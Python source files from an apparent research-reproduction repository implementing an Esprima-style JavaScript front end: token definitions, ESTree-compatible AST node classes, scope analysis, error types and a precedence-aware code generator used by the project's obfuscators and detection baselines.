        if type_ == "BlockStatement":
            block_scope = Scope("block", node, scope)
            self.scope_of_node[id(node)] = block_scope
            self._declare_in_scope(node.body, block_scope)
            return
        if type_ == "TryStatement":
            self._declare_stmt(node.block, scope)
            if node.handler is not None:
                catch_scope = Scope("catch", node.handler, scope)
                self.scope_of_node[id(node.handler)] = catch_scope
                if node.handler.param is not None:
                    catch_scope.declare(node.handler.param.name, "catch", node.handler)
                # The catch body is a block; nest it under the catch scope.
                body_scope = Scope("block", node.handler.body, catch_scope)
                self.scope_of_node[id(node.handler.body)] = body_scope
                self._declare_in_scope(node.handler.body.body, body_scope)
            if node.finalizer is not None:
                self._declare_stmt(node.finalizer, scope)
            return
        if type_ in ("ForStatement", "ForInStatement", "ForOfStatement"):
            loop_scope = Scope("block", node, scope)
            self.scope_of_node[id(node)] = loop_scope
            if type_ == "ForStatement":
                self._declare_stmt(node.init, loop_scope)
                self._declare_expr(node.test, loop_scope)
                self._declare_expr(node.update, loop_scope)
            else:
                self._declare_stmt(node.left, loop_scope)
                if node.left.type not in ("VariableDeclaration",):
                    self._declare_expr(node.left, loop_scope)
                self._declare_expr(node.right, loop_scope)
            self._declare_stmt(node.body, loop_scope)
            return

        # Statements that just contain other statements/expressions.
        for child in node.children():
            if _is_statement(child):
                self._declare_stmt(child, scope)
            else:
                self._declare_expr(child, scope)

    def _declare_expr(self, node: ast.Node | None, scope: Scope) -> None:
        if node is None:
            return
        if node.type in ("FunctionExpression", "ArrowFunctionExpression"):
            self._enter_function(node, scope)
            return
        for child in node.children():
            if _is_statement(child):
                self._declare_stmt(child, scope)
            else:
                self._declare_expr(child, scope)

    def _enter_function(self, node: ast.Node, outer: Scope) -> None:
        fn_scope = Scope("function", node, outer)
        self.scope_of_node[id(node)] = fn_scope
        if getattr(node, "id", None) is not None and node.type == "FunctionExpression":
            fn_scope.declare(node.id.name, "function", node)  # self-reference
        for param in getattr(node, "params", []):
            target = param.argument if param.type == "SpreadElement" else param
            fn_scope.declare(target.name, "param", node)
        body = node.body
        if body.type == "BlockStatement":
            # Function body block shares the function scope for `var`,
            # but we still record the mapping for reference resolution.
            self.scope_of_node[id(body)] = fn_scope
            self._declare_in_scope(body.body, fn_scope)
        else:  # arrow expression body
            self._declare_expr(body, fn_scope)

    # ------------------------------------------------------------ references

    def _resolve_references(self) -> None:
        for node, parent, scope in self._walk_scoped():
            if node.type != "Identifier":
                continue
            if not _is_reference(node, parent):
                continue
            binding = scope.resolve(node.name)
            if binding is None:
                self.unresolved.append(node)
            else:
                binding.references.append(node)
                self.binding_of_ref[id(node)] = binding

    def _walk_scoped(self) -> Iterator[tuple[ast.Node, ast.Node | None, Scope]]:
        """Pre-order walk carrying the innermost scope at each node."""
        stack: list[tuple[ast.Node, ast.Node | None, Scope]] = [(self.program, None, self.global_scope)]
        while stack:
            node, parent, scope = stack.pop()
            scope = self.scope_of_node.get(id(node), scope)
            yield node, parent, scope
            for child in reversed(list(node.children())):
                stack.append((child, node, scope))


def _is_statement(node: ast.Node) -> bool:
    return node.type.endswith("Statement") or node.type.endswith("Declaration") or node.type in (
        "SwitchCase",
        "CatchClause",
    )


def _is_reference(node: ast.Identifier, parent: ast.Node | None) -> bool:
    """True when the identifier is a variable read/write, not a name slot."""
    if parent is None:
        return True
    ptype = parent.type
    if ptype == "MemberExpression" and parent.property is node and not parent.computed:
        return False
    if ptype == "Property" and parent.key is node and not parent.computed:
        return False
    if ptype in ("FunctionDeclaration", "FunctionExpression") and getattr(parent, "id", None) is node:
        return False
    if ptype in ("FunctionDeclaration", "FunctionExpression", "ArrowFunctionExpression"):
        if node in getattr(parent, "params", []):
            return False
    if ptype == "VariableDeclarator" and parent.id is node:
        return False
    if ptype in ("BreakStatement", "ContinueStatement", "LabeledStatement") and getattr(parent, "label", None) is node:
        return False
    if ptype == "CatchClause" and parent.param is node:
        return False
    return True


def analyze_scopes(program: ast.Program) -> ScopeAnalyzer:
    """Run scope analysis and return the populated analyzer."""
    analyzer = ScopeAnalyzer(program)
    analyzer.analyze()
    return analyzer
