"""JavaScript front end: lexer, parser, AST, scope analysis, code generator.

This package is the repository's substitute for Esprima — it parses the
ES5.1+ subset exercised by the corpus into ESTree-compatible ASTs and can
print ASTs back to source (used by the obfuscators).

Quick use::

    from repro.jsparser import parse, generate

    program = parse("var x = 1 + 2;")
    print(generate(program))
"""

from . import ast_nodes
from .ast_nodes import FUNCTION_TYPES, LEAF_TYPES, Node
from .codegen import CodeGenerator, generate
from .errors import CodegenError, JSSyntaxError
from .lexer import Comment, Lexer, tokenize
from .parser import Parser, parse, parse_with_comments
from .scope import Binding, Scope, ScopeAnalyzer, analyze_scopes
from .tokens import Token, TokenType
from .visitor import FunctionScopedVisitor, Visitor, count_nodes, find_all, walk, walk_with_parent

__all__ = [
    "ast_nodes",
    "Node",
    "FUNCTION_TYPES",
    "LEAF_TYPES",
    "CodeGenerator",
    "generate",
    "CodegenError",
    "JSSyntaxError",
    "Comment",
    "Lexer",
    "tokenize",
    "Parser",
    "parse",
    "parse_with_comments",
    "Binding",
    "Scope",
    "ScopeAnalyzer",
    "analyze_scopes",
    "Token",
    "TokenType",
    "Visitor",
    "FunctionScopedVisitor",
    "count_nodes",
    "find_all",
    "walk",
    "walk_with_parent",
]
