"""Token definitions for the JavaScript lexer.

The token taxonomy mirrors what Esprima exposes: punctuators, keywords,
identifiers, numeric / string / regular-expression / template literals,
booleans and ``null``.  Each token records its source span so downstream
passes (error messages, obfuscators) can refer back to the original text.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field


class TokenType(enum.Enum):
    """Lexical categories produced by :class:`repro.jsparser.lexer.Lexer`."""

    EOF = "EOF"
    IDENTIFIER = "Identifier"
    KEYWORD = "Keyword"
    PUNCTUATOR = "Punctuator"
    NUMERIC = "Numeric"
    STRING = "String"
    REGEXP = "RegularExpression"
    TEMPLATE = "Template"
    BOOLEAN = "Boolean"
    NULL = "Null"


#: Reserved words of ECMAScript 5.1 plus the ES2015 subset the parser accepts.
KEYWORDS = frozenset(
    {
        "break",
        "case",
        "catch",
        "class",
        "const",
        "continue",
        "debugger",
        "default",
        "delete",
        "do",
        "else",
        "extends",
        "finally",
        "for",
        "function",
        "if",
        "in",
        "instanceof",
        "let",
        "new",
        "return",
        "super",
        "switch",
        "this",
        "throw",
        "try",
        "typeof",
        "var",
        "void",
        "while",
        "with",
        "yield",
    }
)

#: Punctuators ordered longest-first so the lexer can use greedy matching.
PUNCTUATORS = sorted(
    [
        ">>>=",
        "===",
        "!==",
        ">>>",
        "<<=",
        ">>=",
        "**=",
        "...",
        "&&=",
        "||=",
        "??=",
        "=>",
        "==",
        "!=",
        "<=",
        ">=",
        "&&",
        "||",
        "??",
        "++",
        "--",
        "<<",
        ">>",
        "+=",
        "-=",
        "*=",
        "/=",
        "%=",
        "&=",
        "|=",
        "^=",
        "**",
        "?.",
        "{",
        "}",
        "(",
        ")",
        "[",
        "]",
        ";",
        ",",
        "<",
        ">",
        "+",
        "-",
        "*",
        "/",
        "%",
        "&",
        "|",
        "^",
        "!",
        "~",
        "?",
        ":",
        "=",
        ".",
    ],
    key=len,
    reverse=True,
)


@dataclass(frozen=True)
class Position:
    """A point in the source text (1-based line, 0-based column)."""

    line: int
    column: int

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"{self.line}:{self.column}"


@dataclass
class Token:
    """A single lexical token.

    Attributes:
        type: The lexical category.
        value: The raw text of the token (string/template values are the
            *decoded* value; ``raw`` keeps the original spelling).
        start: Offset of the first character in the source.
        end: Offset one past the last character.
        line: 1-based line of the first character.
        column: 0-based column of the first character.
        raw: Original source slice (useful for literals).
        preceded_by_newline: True when a line terminator occurred between
            this token and the previous one — required for automatic
            semicolon insertion (ASI).
    """

    type: TokenType
    value: str
    start: int = 0
    end: int = 0
    line: int = 1
    column: int = 0
    raw: str = ""
    preceded_by_newline: bool = field(default=False, compare=False)

    def matches(self, type_: TokenType, value: str | None = None) -> bool:
        """Return True when the token has the given type (and value)."""
        if self.type is not type_:
            return False
        return value is None or self.value == value

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Token({self.type.value}, {self.value!r} @ {self.line}:{self.column})"
