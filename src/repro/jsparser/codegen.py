"""AST → JavaScript source code generator.

The generator emits readable, re-parseable code: every obfuscator in
:mod:`repro.obfuscation` round-trips source through
``parse → transform → generate``, and the property-based test-suite checks
``parse(generate(parse(src)))`` produces an equivalent tree.

Operator precedence is respected by comparing each child's precedence with
its context and parenthesizing when needed, so generated code never changes
evaluation order.
"""

from __future__ import annotations

from . import ast_nodes as ast
from .errors import CodegenError

_BINARY_PRECEDENCE = {
    "??": 1,
    "||": 2,
    "&&": 3,
    "|": 4,
    "^": 5,
    "&": 6,
    "==": 7,
    "!=": 7,
    "===": 7,
    "!==": 7,
    "<": 8,
    ">": 8,
    "<=": 8,
    ">=": 8,
    "instanceof": 8,
    "in": 8,
    "<<": 9,
    ">>": 9,
    ">>>": 9,
    "+": 10,
    "-": 10,
    "*": 11,
    "/": 11,
    "%": 11,
    "**": 12,
}

# Precedence levels for the surrounding-expression check.
_PREC_SEQUENCE = 0
_PREC_ASSIGN = 1
_PREC_CONDITIONAL = 2
_PREC_BINARY_BASE = 3  # + binary operator precedence (1..12)
_PREC_UNARY = 16
_PREC_POSTFIX = 17
_PREC_CALL = 18
_PREC_MEMBER = 19
_PREC_PRIMARY = 20


#: Characters that need a named escape inside a double-quoted literal.
#: U+2028/U+2029 are line terminators to the lexer even inside strings,
#: so they must be escaped or the literal fails to re-parse.
_STRING_ESCAPES = {
    "\\": "\\\\",
    '"': '\\"',
    "\n": "\\n",
    "\r": "\\r",
    "\t": "\\t",
    "\b": "\\b",
    "\f": "\\f",
    "\v": "\\v",
    " ": "\\u2028",
    " ": "\\u2029",
}


def _escape_string(value: str) -> str:
    """Emit a double-quoted JS string literal for ``value``.

    Non-ASCII characters are emitted literally so astral code points
    survive a ``generate → parse`` round trip (a ``\\uD83D\\uDE00``
    surrogate-pair escape would re-lex as two lone surrogate code
    units, changing the literal's value).  Lone surrogates themselves
    cannot be UTF-8 encoded, so those — and bare control characters —
    are escaped numerically.
    """
    parts = ['"']
    for ch in value:
        escape = _STRING_ESCAPES.get(ch)
        if escape is not None:
            parts.append(escape)
        elif ch < " " or "\ud800" <= ch <= "\udfff":
            code = ord(ch)
            parts.append(f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}")
        else:
            parts.append(ch)
    parts.append('"')
    return "".join(parts)


class CodeGenerator:
    """Pretty-printer for the AST produced by :mod:`repro.jsparser.parser`."""

    def __init__(self, indent: str = "  "):
        self.indent_unit = indent
        self._depth = 0
        # Inside a `for (...;;)` init, a bare `in` operator would be
        # re-parsed as a for-in header — parenthesize it there.
        self._in_for_init = False

    # ------------------------------------------------------------------ API

    def generate(self, node: ast.Node) -> str:
        """Render ``node`` (usually a Program) as JavaScript source.

        Raises :class:`CodegenError` for unknown node types *and* for
        trees too deeply nested to print recursively — callers see one
        structured failure mode, never a raw ``RecursionError``.
        """
        try:
            if node.type == "Program":
                return "".join(self._statement(stmt) for stmt in node.body)
            method = getattr(self, f"_gen_{node.type}", None)
            if method is None:
                raise CodegenError(f"No generator for node type {node.type}")
            return method(node)
        except RecursionError as error:
            raise CodegenError("nesting too deep to generate source") from error

    # ------------------------------------------------------------ statements

    @property
    def _pad(self) -> str:
        return self.indent_unit * self._depth

    def _statement(self, node: ast.Node) -> str:
        method = getattr(self, f"_stmt_{node.type}", None)
        if method is not None:
            return method(node)
        method = getattr(self, f"_gen_{node.type}", None)
        if method is None:
            raise CodegenError(f"No generator for statement type {node.type}")
        return f"{self._pad}{method(node)};\n"

    def _stmt_ExpressionStatement(self, node: ast.ExpressionStatement) -> str:
        text = self._expr(node.expression, _PREC_SEQUENCE)
        # A leading `{` or `function` would be re-parsed as a block/declaration.
        if text.startswith("{") or text.startswith("function"):
            text = f"({text})"
        return f"{self._pad}{text};\n"

    def _stmt_BlockStatement(self, node: ast.BlockStatement) -> str:
        return f"{self._pad}{self._block(node)}\n"

    def _block(self, node: ast.BlockStatement) -> str:
        if not node.body:
            return "{}"
        self._depth += 1
        inner = "".join(self._statement(stmt) for stmt in node.body)
        self._depth -= 1
        return "{\n" + inner + self._pad + "}"

    def _stmt_EmptyStatement(self, node: ast.EmptyStatement) -> str:
        return f"{self._pad};\n"

    def _stmt_VariableDeclaration(self, node: ast.VariableDeclaration) -> str:
        return f"{self._pad}{self._var_decl(node)};\n"

    def _var_decl(self, node: ast.VariableDeclaration) -> str:
        parts = []
        for declarator in node.declarations:
            text = self._expr(declarator.id, _PREC_PRIMARY)
            if declarator.init is not None:
                text += f" = {self._expr(declarator.init, _PREC_ASSIGN)}"
            parts.append(text)
        return f"{node.kind} " + ", ".join(parts)

    def _stmt_IfStatement(self, node: ast.IfStatement) -> str:
        test = self._expr(node.test, _PREC_SEQUENCE)
        out = f"{self._pad}if ({test}) {self._nested(node.consequent)}"
        if node.alternate is not None:
            out = out.rstrip("\n")
            if node.alternate.type == "IfStatement":
                alt = self._stmt_IfStatement(node.alternate).lstrip()
                out += f" else {alt}"
            else:
                out += f" else {self._nested(node.alternate).lstrip()}"
        return out

    def _nested(self, stmt: ast.Node) -> str:
        """Render the body of an if/loop; blocks stay inline, others indent."""
        if stmt.type == "BlockStatement":
            return f"{self._block(stmt)}\n"
        self._depth += 1
        text = self._statement(stmt)
        self._depth -= 1
        return "\n" + text

    def _stmt_ForStatement(self, node: ast.ForStatement) -> str:
        self._in_for_init = True
        try:
            if node.init is None:
                init = ""
            elif node.init.type == "VariableDeclaration":
                init = self._var_decl(node.init)
            else:
                init = self._expr(node.init, _PREC_SEQUENCE)
        finally:
            self._in_for_init = False
        test = "" if node.test is None else self._expr(node.test, _PREC_SEQUENCE)
        update = "" if node.update is None else self._expr(node.update, _PREC_SEQUENCE)
        return f"{self._pad}for ({init}; {test}; {update}) {self._nested(node.body)}"

    def _for_in_of(self, node, keyword: str) -> str:
        if node.left.type == "VariableDeclaration":
            left = self._var_decl(node.left)
        else:
            left = self._expr(node.left, _PREC_ASSIGN)
        right = self._expr(node.right, _PREC_SEQUENCE)
        return f"{self._pad}for ({left} {keyword} {right}) {self._nested(node.body)}"

    def _stmt_ForInStatement(self, node: ast.ForInStatement) -> str:
        return self._for_in_of(node, "in")

    def _stmt_ForOfStatement(self, node: ast.ForOfStatement) -> str:
        return self._for_in_of(node, "of")

    def _stmt_WhileStatement(self, node: ast.WhileStatement) -> str:
        return f"{self._pad}while ({self._expr(node.test, _PREC_SEQUENCE)}) {self._nested(node.body)}"

    def _stmt_DoWhileStatement(self, node: ast.DoWhileStatement) -> str:
        body = self._nested(node.body).rstrip("\n")
        return f"{self._pad}do {body.lstrip() if node.body.type == 'BlockStatement' else body} while ({self._expr(node.test, _PREC_SEQUENCE)});\n"

    def _stmt_ReturnStatement(self, node: ast.ReturnStatement) -> str:
        if node.argument is None:
            return f"{self._pad}return;\n"
        return f"{self._pad}return {self._expr(node.argument, _PREC_SEQUENCE)};\n"

    def _stmt_BreakStatement(self, node: ast.BreakStatement) -> str:
        label = f" {node.label.name}" if node.label else ""
        return f"{self._pad}break{label};\n"

    def _stmt_ContinueStatement(self, node: ast.ContinueStatement) -> str:
        label = f" {node.label.name}" if node.label else ""
        return f"{self._pad}continue{label};\n"

    def _stmt_ThrowStatement(self, node: ast.ThrowStatement) -> str:
        return f"{self._pad}throw {self._expr(node.argument, _PREC_SEQUENCE)};\n"

    def _stmt_TryStatement(self, node: ast.TryStatement) -> str:
        out = f"{self._pad}try {self._block(node.block)}"
        if node.handler is not None:
            param = f" ({node.handler.param.name})" if node.handler.param else ""
            out += f" catch{param} {self._block(node.handler.body)}"
        if node.finalizer is not None:
            out += f" finally {self._block(node.finalizer)}"
        return out + "\n"

    def _stmt_SwitchStatement(self, node: ast.SwitchStatement) -> str:
        disc = self._expr(node.discriminant, _PREC_SEQUENCE)
        out = f"{self._pad}switch ({disc}) {{\n"
        self._depth += 1
        for case in node.cases:
            if case.test is None:
                out += f"{self._pad}default:\n"
            else:
                out += f"{self._pad}case {self._expr(case.test, _PREC_SEQUENCE)}:\n"
            self._depth += 1
            out += "".join(self._statement(stmt) for stmt in case.consequent)
            self._depth -= 1
        self._depth -= 1
        return out + f"{self._pad}}}\n"

    def _stmt_LabeledStatement(self, node: ast.LabeledStatement) -> str:
        body = self._statement(node.body).lstrip()
        return f"{self._pad}{node.label.name}: {body}"

    def _stmt_WithStatement(self, node: ast.WithStatement) -> str:
        return f"{self._pad}with ({self._expr(node.object, _PREC_SEQUENCE)}) {self._nested(node.body)}"

    def _stmt_DebuggerStatement(self, node: ast.DebuggerStatement) -> str:
        return f"{self._pad}debugger;\n"

    def _stmt_FunctionDeclaration(self, node: ast.FunctionDeclaration) -> str:
        params = ", ".join(self._param(p) for p in node.params)
        return f"{self._pad}function {node.id.name}({params}) {self._block(node.body)}\n"

    def _param(self, param: ast.Node) -> str:
        if param.type == "SpreadElement":
            return f"...{self._expr(param.argument, _PREC_ASSIGN)}"
        return self._expr(param, _PREC_ASSIGN)

    # ----------------------------------------------------------- expressions

    def _precedence(self, node: ast.Node) -> int:
        type_ = node.type
        if type_ == "SequenceExpression":
            return _PREC_SEQUENCE
        if type_ in ("AssignmentExpression", "ArrowFunctionExpression"):
            return _PREC_ASSIGN
        if type_ == "ConditionalExpression":
            return _PREC_CONDITIONAL
        if type_ in ("BinaryExpression", "LogicalExpression"):
            return _PREC_BINARY_BASE + _BINARY_PRECEDENCE[node.operator]
        if type_ == "UnaryExpression":
            return _PREC_UNARY
        if type_ == "UpdateExpression":
            return _PREC_UNARY if node.prefix else _PREC_POSTFIX
        if type_ in ("CallExpression", "NewExpression"):
            return _PREC_CALL
        if type_ == "MemberExpression":
            return _PREC_MEMBER
        return _PREC_PRIMARY

    def _expr(self, node: ast.Node, min_precedence: int) -> str:
        method = getattr(self, f"_gen_{node.type}", None)
        if method is None:
            raise CodegenError(f"No generator for expression type {node.type}")
        text = method(node)
        if self._precedence(node) < min_precedence:
            return f"({text})"
        return text

    def _gen_Identifier(self, node: ast.Identifier) -> str:
        return node.name

    def _gen_Literal(self, node) -> str:
        if getattr(node, "regex", None) is not None:
            return node.raw
        value = node.value
        if value is None:
            return "null"
        if value is True:
            return "true"
        if value is False:
            return "false"
        if isinstance(value, str):
            return _escape_string(value)
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        return repr(value)

    def _gen_TemplateLiteral(self, node: ast.TemplateLiteral) -> str:
        escaped = node.value.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${")
        return f"`{escaped}`"

    def _gen_ThisExpression(self, node) -> str:
        return "this"

    def _gen_ArrayExpression(self, node: ast.ArrayExpression) -> str:
        parts = []
        for element in node.elements:
            if element is None:
                parts.append("")
            else:
                parts.append(self._expr(element, _PREC_ASSIGN))
        return "[" + ", ".join(parts) + "]"

    def _gen_SpreadElement(self, node: ast.SpreadElement) -> str:
        return f"...{self._expr(node.argument, _PREC_ASSIGN)}"

    def _gen_ObjectExpression(self, node: ast.ObjectExpression) -> str:
        if not node.properties:
            return "{}"
        parts = []
        for prop in node.properties:
            if prop.computed:
                key = f"[{self._expr(prop.key, _PREC_ASSIGN)}]"
            elif prop.key.type == "Identifier":
                key = prop.key.name
            else:
                key = self._gen_Literal(prop.key)
            if prop.kind in ("get", "set"):
                fn = prop.value
                params = ", ".join(self._param(p) for p in fn.params)
                parts.append(f"{prop.kind} {key}({params}) {self._block(fn.body)}")
            else:
                parts.append(f"{key}: {self._expr(prop.value, _PREC_ASSIGN)}")
        return "{ " + ", ".join(parts) + " }"

    def _gen_FunctionExpression(self, node: ast.FunctionExpression) -> str:
        name = f" {node.id.name}" if node.id else ""
        params = ", ".join(self._param(p) for p in node.params)
        return f"function{name}({params}) {self._block(node.body)}"

    def _gen_ArrowFunctionExpression(self, node: ast.ArrowFunctionExpression) -> str:
        params = ", ".join(self._param(p) for p in node.params)
        head = f"({params})"
        if node.expression:
            body = self._expr(node.body, _PREC_ASSIGN)
            if body.startswith("{"):
                body = f"({body})"
            return f"{head} => {body}"
        return f"{head} => {self._block(node.body)}"

    def _gen_UnaryExpression(self, node: ast.UnaryExpression) -> str:
        spacer = " " if node.operator.isalpha() else ""
        argument = self._expr(node.argument, _PREC_UNARY)
        # Avoid `--x` / `++x` when printing `-(-x)` etc.
        if not spacer and argument.startswith(node.operator[0]):
            spacer = " "
        return f"{node.operator}{spacer}{argument}"

    def _gen_UpdateExpression(self, node: ast.UpdateExpression) -> str:
        argument = self._expr(node.argument, _PREC_UNARY)
        return f"{node.operator}{argument}" if node.prefix else f"{argument}{node.operator}"

    def _binaryish(self, node) -> str:
        if node.operator == "in" and self._in_for_init:
            saved, self._in_for_init = self._in_for_init, False
            try:
                left = self._expr(node.left, _PREC_BINARY_BASE + _BINARY_PRECEDENCE["in"])
                right = self._expr(node.right, _PREC_BINARY_BASE + _BINARY_PRECEDENCE["in"] + 1)
            finally:
                self._in_for_init = saved
            return f"({left} in {right})"
        precedence = _BINARY_PRECEDENCE[node.operator]
        left_min = _PREC_BINARY_BASE + precedence
        right_min = _PREC_BINARY_BASE + precedence + 1
        if node.operator == "**":  # right-associative
            left_min, right_min = right_min, left_min
        left = self._expr(node.left, left_min)
        right = self._expr(node.right, right_min)
        return f"{left} {node.operator} {right}"

    _gen_BinaryExpression = _binaryish
    _gen_LogicalExpression = _binaryish

    def _gen_AssignmentExpression(self, node: ast.AssignmentExpression) -> str:
        left = self._expr(node.left, _PREC_POSTFIX)
        right = self._expr(node.right, _PREC_ASSIGN)
        return f"{left} {node.operator} {right}"

    def _gen_ConditionalExpression(self, node: ast.ConditionalExpression) -> str:
        test = self._expr(node.test, _PREC_CONDITIONAL + 1)
        consequent = self._expr(node.consequent, _PREC_ASSIGN)
        alternate = self._expr(node.alternate, _PREC_ASSIGN)
        return f"{test} ? {consequent} : {alternate}"

    def _gen_CallExpression(self, node: ast.CallExpression) -> str:
        callee = self._expr(node.callee, _PREC_CALL)
        arguments = ", ".join(self._expr(a, _PREC_ASSIGN) for a in node.arguments)
        return f"{callee}({arguments})"

    def _gen_NewExpression(self, node: ast.NewExpression) -> str:
        # `new (f())()` needs parens when the callee contains a call; the
        # wrap below supplies them, so print the callee unwrapped here.
        if _contains_call(node.callee):
            callee = f"({self._expr(node.callee, _PREC_SEQUENCE)})"
        else:
            callee = self._expr(node.callee, _PREC_MEMBER)
        arguments = ", ".join(self._expr(a, _PREC_ASSIGN) for a in node.arguments)
        return f"new {callee}({arguments})"

    def _gen_MemberExpression(self, node: ast.MemberExpression) -> str:
        obj = self._expr(node.object, _PREC_CALL if _is_call_like(node.object) else _PREC_MEMBER)
        if isinstance(node.object, ast.Literal) and isinstance(node.object.value, (int, float)):
            obj = f"({obj})"
        if node.computed:
            return f"{obj}[{self._expr(node.property, _PREC_SEQUENCE)}]"
        return f"{obj}.{node.property.name}"

    def _gen_SequenceExpression(self, node: ast.SequenceExpression) -> str:
        return ", ".join(self._expr(e, _PREC_ASSIGN) for e in node.expressions)


def _is_call_like(node: ast.Node) -> bool:
    return node.type in ("CallExpression", "NewExpression")


def _contains_call(node: ast.Node) -> bool:
    if node.type == "CallExpression":
        return True
    if node.type == "MemberExpression":
        return _contains_call(node.object)
    return False


def generate(node: ast.Node, indent: str = "  ") -> str:
    """Render an AST back to JavaScript source text."""
    return CodeGenerator(indent).generate(node)
