"""Error types raised by the JavaScript front end."""

from __future__ import annotations


class JSSyntaxError(Exception):
    """Raised when the lexer or parser encounters invalid JavaScript.

    Attributes:
        message: Human-readable description.
        line: 1-based line of the offending character or token.
        column: 0-based column.
        index: Absolute character offset in the source.
    """

    def __init__(self, message: str, line: int = 0, column: int = 0, index: int = 0):
        super().__init__(f"Line {line}: {message}")
        self.message = message
        self.line = line
        self.column = column
        self.index = index


class CodegenError(Exception):
    """Raised when the code generator meets an AST node it cannot print."""
