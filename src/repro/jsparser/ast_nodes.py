"""ESTree-compatible AST node classes.

Every node exposes:

* ``type`` — the ESTree type string (``"IfStatement"``, ...), matching what
  Esprima would produce for the same construct, so downstream feature
  pipelines (JSRevealer paths, ZOZZLE/JAST/JSTAP baselines) see the same
  taxonomy as the paper's tooling.
* ``_fields`` — the child-bearing attribute names in source order, which
  gives all passes (visitor, path extraction, codegen, obfuscators) one
  uniform way to walk the tree.
* ``loc`` — ``(line, column)`` of the first token, for diagnostics.

Nodes are plain mutable objects: the obfuscators edit trees in place and the
code generator prints whatever shape results.
"""

from __future__ import annotations

from typing import Any, Iterator


class Node:
    """Base class for all AST nodes."""

    type: str = "Node"
    _fields: tuple[str, ...] = ()

    def __init__(self, loc: tuple[int, int] = (0, 0)):
        self.loc = loc

    def children(self) -> Iterator["Node"]:
        """Yield child nodes in source order (flattening list fields)."""
        for name in self._fields:
            value = getattr(self, name, None)
            if isinstance(value, Node):
                yield value
            elif isinstance(value, list):
                for item in value:
                    if isinstance(item, Node):
                        yield item

    def replace_child(self, old: "Node", new: "Node") -> bool:
        """Replace ``old`` with ``new`` in whichever field holds it."""
        for name in self._fields:
            value = getattr(self, name, None)
            if value is old:
                setattr(self, name, new)
                return True
            if isinstance(value, list):
                for i, item in enumerate(value):
                    if item is old:
                        value[i] = new
                        return True
        return False

    def to_dict(self) -> dict[str, Any]:
        """Serialize to a plain ESTree-style dictionary (for tests/tools)."""
        out: dict[str, Any] = {"type": self.type}
        for name in self._fields + getattr(self, "_attrs", ()):
            value = getattr(self, name, None)
            if isinstance(value, Node):
                out[name] = value.to_dict()
            elif isinstance(value, list):
                out[name] = [v.to_dict() if isinstance(v, Node) else v for v in value]
            else:
                out[name] = value
        return out

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{self.type} @ {self.loc[0]}:{self.loc[1]}>"


# --------------------------------------------------------------------- roots


class Program(Node):
    type = "Program"
    _fields = ("body",)

    def __init__(self, body: list[Node], loc=(0, 0)):
        super().__init__(loc)
        self.body = body


# ---------------------------------------------------------------- statements


class ExpressionStatement(Node):
    type = "ExpressionStatement"
    _fields = ("expression",)

    def __init__(self, expression: Node, loc=(0, 0)):
        super().__init__(loc)
        self.expression = expression


class BlockStatement(Node):
    type = "BlockStatement"
    _fields = ("body",)

    def __init__(self, body: list[Node], loc=(0, 0)):
        super().__init__(loc)
        self.body = body


class EmptyStatement(Node):
    type = "EmptyStatement"


class VariableDeclaration(Node):
    type = "VariableDeclaration"
    _fields = ("declarations",)
    _attrs = ("kind",)

    def __init__(self, declarations: list["VariableDeclarator"], kind: str = "var", loc=(0, 0)):
        super().__init__(loc)
        self.declarations = declarations
        self.kind = kind


class VariableDeclarator(Node):
    type = "VariableDeclarator"
    _fields = ("id", "init")

    def __init__(self, id: Node, init: Node | None = None, loc=(0, 0)):
        super().__init__(loc)
        self.id = id
        self.init = init


class IfStatement(Node):
    type = "IfStatement"
    _fields = ("test", "consequent", "alternate")

    def __init__(self, test: Node, consequent: Node, alternate: Node | None = None, loc=(0, 0)):
        super().__init__(loc)
        self.test = test
        self.consequent = consequent
        self.alternate = alternate


class ForStatement(Node):
    type = "ForStatement"
    _fields = ("init", "test", "update", "body")

    def __init__(self, init, test, update, body, loc=(0, 0)):
        super().__init__(loc)
        self.init = init
        self.test = test
        self.update = update
        self.body = body


class ForInStatement(Node):
    type = "ForInStatement"
    _fields = ("left", "right", "body")

    def __init__(self, left, right, body, loc=(0, 0)):
        super().__init__(loc)
        self.left = left
        self.right = right
        self.body = body


class ForOfStatement(Node):
    type = "ForOfStatement"
    _fields = ("left", "right", "body")

    def __init__(self, left, right, body, loc=(0, 0)):
        super().__init__(loc)
        self.left = left
        self.right = right
        self.body = body


class WhileStatement(Node):
    type = "WhileStatement"
    _fields = ("test", "body")

    def __init__(self, test, body, loc=(0, 0)):
        super().__init__(loc)
        self.test = test
        self.body = body


class DoWhileStatement(Node):
    type = "DoWhileStatement"
    _fields = ("body", "test")

    def __init__(self, body, test, loc=(0, 0)):
        super().__init__(loc)
        self.body = body
        self.test = test


class ReturnStatement(Node):
    type = "ReturnStatement"
    _fields = ("argument",)

    def __init__(self, argument: Node | None = None, loc=(0, 0)):
        super().__init__(loc)
        self.argument = argument


class BreakStatement(Node):
    type = "BreakStatement"
    _fields = ("label",)

    def __init__(self, label: Node | None = None, loc=(0, 0)):
        super().__init__(loc)
        self.label = label


class ContinueStatement(Node):
    type = "ContinueStatement"
    _fields = ("label",)

    def __init__(self, label: Node | None = None, loc=(0, 0)):
        super().__init__(loc)
        self.label = label


class ThrowStatement(Node):
    type = "ThrowStatement"
    _fields = ("argument",)

    def __init__(self, argument: Node, loc=(0, 0)):
        super().__init__(loc)
        self.argument = argument


class TryStatement(Node):
    type = "TryStatement"
    _fields = ("block", "handler", "finalizer")

    def __init__(self, block, handler=None, finalizer=None, loc=(0, 0)):
        super().__init__(loc)
        self.block = block
        self.handler = handler
        self.finalizer = finalizer


class CatchClause(Node):
    type = "CatchClause"
    _fields = ("param", "body")

    def __init__(self, param, body, loc=(0, 0)):
        super().__init__(loc)
        self.param = param
        self.body = body


class SwitchStatement(Node):
    type = "SwitchStatement"
    _fields = ("discriminant", "cases")

    def __init__(self, discriminant, cases, loc=(0, 0)):
        super().__init__(loc)
        self.discriminant = discriminant
        self.cases = cases


class SwitchCase(Node):
    type = "SwitchCase"
    _fields = ("test", "consequent")

    def __init__(self, test, consequent, loc=(0, 0)):
        super().__init__(loc)
        self.test = test  # None for `default:`
        self.consequent = consequent


class LabeledStatement(Node):
    type = "LabeledStatement"
    _fields = ("label", "body")

    def __init__(self, label, body, loc=(0, 0)):
        super().__init__(loc)
        self.label = label
        self.body = body


